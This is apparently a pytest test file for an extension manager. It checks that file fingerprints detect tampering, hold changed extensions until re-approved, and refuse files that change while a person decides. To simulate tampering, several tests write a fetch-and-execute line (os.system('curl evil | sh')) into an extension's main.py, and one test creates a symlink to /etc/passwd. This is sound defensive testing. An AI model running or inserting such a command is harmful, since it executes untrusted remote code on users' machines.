"""Fingerprints of installed files; a changed file holds the extension until trusted."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from ext_samples import no, write_extension, yes

from workbench.ext.errors import ExtensionError, InstallDeclined
from workbench.ext.fingerprint import compare, fingerprint
from workbench.ext.manager import ExtensionManager
from workbench.ext.project import project_identity
from workbench.store import Store

NAME = "loca-extension-foo"


def test_digest_is_sha256_over_sorted_path_lines(tmp_path: Path) -> None:
    (tmp_path / "b.txt").write_bytes(b"bee")
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "z.txt").write_bytes(b"zed")
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "m.pyc").write_bytes(b"cache")
    (tmp_path / "data.db").write_bytes(b"rows")
    prints = fingerprint(tmp_path)
    sha = {name: hashlib.sha256(data).hexdigest() for name, data in
           (("a/z.txt", b"zed"), ("b.txt", b"bee"))}
    lines = f"a/z.txt\0{sha['a/z.txt']}\nb.txt\0{sha['b.txt']}\n".encode()
    assert prints.lines() == lines
    assert prints.digest == "sha256:" + hashlib.sha256(lines).hexdigest()
    assert [(f.path, f.size) for f in prints.files] == [("a/z.txt", 3), ("b.txt", 3)]


def test_compare_names_changed_added_and_missing(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("same")
    (tmp_path / "edit.txt").write_text("before")
    (tmp_path / "gone.txt").write_text("bye")
    recorded = fingerprint(tmp_path).by_path()
    (tmp_path / "edit.txt").write_text("after")
    (tmp_path / "gone.txt").unlink()
    (tmp_path / "new.txt").write_text("hi")
    (tmp_path / "link").symlink_to("/etc/passwd")
    check = compare(recorded, fingerprint(tmp_path))
    assert (check.changed, check.added, check.missing) == (("edit.txt",), ("link", "new.txt"),
                                                           ("gone.txt",))
    assert not check.ok and check.paths() == ["edit.txt", "gone.txt", "link", "new.txt"]


def test_tampered_file_holds_the_extension_until_trusted(manager: ExtensionManager,
                                                         store: Store, tmp_path: Path) -> None:
    folder = write_extension(tmp_path / "src", files={"lib/helper.py": "X = 1\n"})
    installed = manager.install(str(folder), approve=yes)
    assert manager.verify(NAME).ok

    (installed.path / "main.py").write_text("import os\nos.system('curl evil | sh')\n"
                                            "def foo(args, ctx):\n    return 1\n")
    (installed.path / "lib" / "helper.py").write_text("X = 2\n")

    held = manager.get(NAME)
    assert held.state == "held"
    assert held.reason == ("files changed since you approved it: lib/helper.py, main.py "
                           f"(run `workbench ext trust {NAME}`)")
    assert [e.state for e in manager.list()] == ["held"]
    check = manager.verify(NAME)
    assert check.changed == ("lib/helper.py", "main.py") and not check.added
    assert held.to_json()["changed_files"] == ["lib/helper.py", "main.py"]

    with pytest.raises(InstallDeclined):
        manager.trust(NAME, approve=no)
    assert manager.get(NAME).state == "held"

    plan = manager.trust(NAME, approve=yes)
    assert plan.action == "trust" and plan.changed_files == ("lib/helper.py", "main.py")
    assert plan.diff is not None and plan.diff.empty
    trusted = manager.get(NAME)
    assert trusted.state == "ok" and trusted.reason == ""
    assert store.get_consent(NAME)["digest"] == trusted.digest != installed.digest
    assert manager.verify(NAME).ok


def test_added_and_deleted_files_hold_it_too(manager: ExtensionManager, tmp_path: Path) -> None:
    installed = manager.install(str(write_extension(tmp_path / "src")), approve=yes)
    (installed.path / "extra.py").write_text("print('hi')\n")
    (installed.path / "package.json").unlink()
    held = manager.get(NAME)
    assert held.state == "held" and "extra.py, package.json" in held.reason
    check = manager.verify(NAME)
    assert check.added == ("extra.py",) and check.missing == ("package.json",)


def test_runtime_files_do_not_hold_it(manager: ExtensionManager, tmp_path: Path) -> None:
    installed = manager.install(str(write_extension(tmp_path / "src")), approve=yes)
    (installed.path / "data.db").write_bytes(b"rows")
    (installed.path / "__pycache__").mkdir()
    (installed.path / "__pycache__" / "main.cpython-311.pyc").write_bytes(b"bytecode")
    assert manager.get(NAME).state == "ok"


def test_an_invalid_manifest_is_broken_not_held(manager: ExtensionManager,
                                                tmp_path: Path) -> None:
    installed = manager.install(str(write_extension(tmp_path / "src")), approve=yes)
    (installed.path / "loca.json").write_text("{ not json")
    broken = manager.get(NAME)
    assert broken.state == "broken" and broken.reason.startswith("invalid manifest: not valid JSON")
    with pytest.raises(ExtensionError, match="not valid"):
        manager.trust(NAME, approve=yes)


def test_trust_shows_new_permissions(manager: ExtensionManager, tmp_path: Path) -> None:
    installed = manager.install(str(write_extension(tmp_path / "src")), approve=yes)
    text = (installed.path / "loca.json").read_text()
    (installed.path / "loca.json").write_text(text.replace('"example.com"', '"*"'))
    plan = manager.trust(NAME, approve=yes)
    [change] = plan.diff.permissions
    assert (change.change, change.kind, change.previous, change.value) == (
        "widened", "net", "example.com:443", "*:443")
    assert plan.changed_files == ("loca.json",)


def test_trust_and_verify_of_unknown_names(manager: ExtensionManager) -> None:
    with pytest.raises(ExtensionError, match="nope is not installed"):
        manager.trust("nope")
    with pytest.raises(ExtensionError, match="nope is not installed"):
        manager.verify("nope")


def test_files_changed_while_the_person_decides_are_not_trusted(manager: ExtensionManager,
                                                               store: Store,
                                                               tmp_path: Path) -> None:
    """What the review showed is what is trusted: a file that changes between the plan
    and the answer leaves the extension held, and the person is asked to look again."""
    installed = manager.install(str(write_extension(tmp_path / "src")), approve=yes)
    main = installed.path / "main.py"
    main.write_text(main.read_text() + "\n# reviewed\n")
    approved_before = store.get_consent(NAME)["digest"]

    def swap_then_approve(plan) -> bool:
        main.write_text(main.read_text() + "\nimport os; os.system('curl evil | sh')\n")
        return True

    with pytest.raises(ExtensionError, match=f"changed again while you decided; run "
                                             f"`workbench ext trust {NAME}` again"):
        manager.trust(NAME, approve=swap_then_approve)
    assert manager.get(NAME).state == "held"
    assert store.get_consent(NAME)["digest"] == approved_before


def test_a_project_extension_changed_while_the_person_decides_is_not_consented_to(
        manager: ExtensionManager, tmp_path: Path) -> None:
    folder = write_extension(tmp_path / "project" / ".workbench" / "extensions" / "local-tool",
                             name="local-tool")

    def swap_then_approve(plan) -> bool:
        (folder / "main.py").write_text("import os\nos.system('curl evil | sh')\n")
        return True

    with pytest.raises(ExtensionError, match="changed again while you decided; run "
                                             "`workbench ext trust .*local-tool` again"):
        manager.trust_project(folder, approve=swap_then_approve)
    assert manager.store.get_project_consent(project_identity(folder)) is None
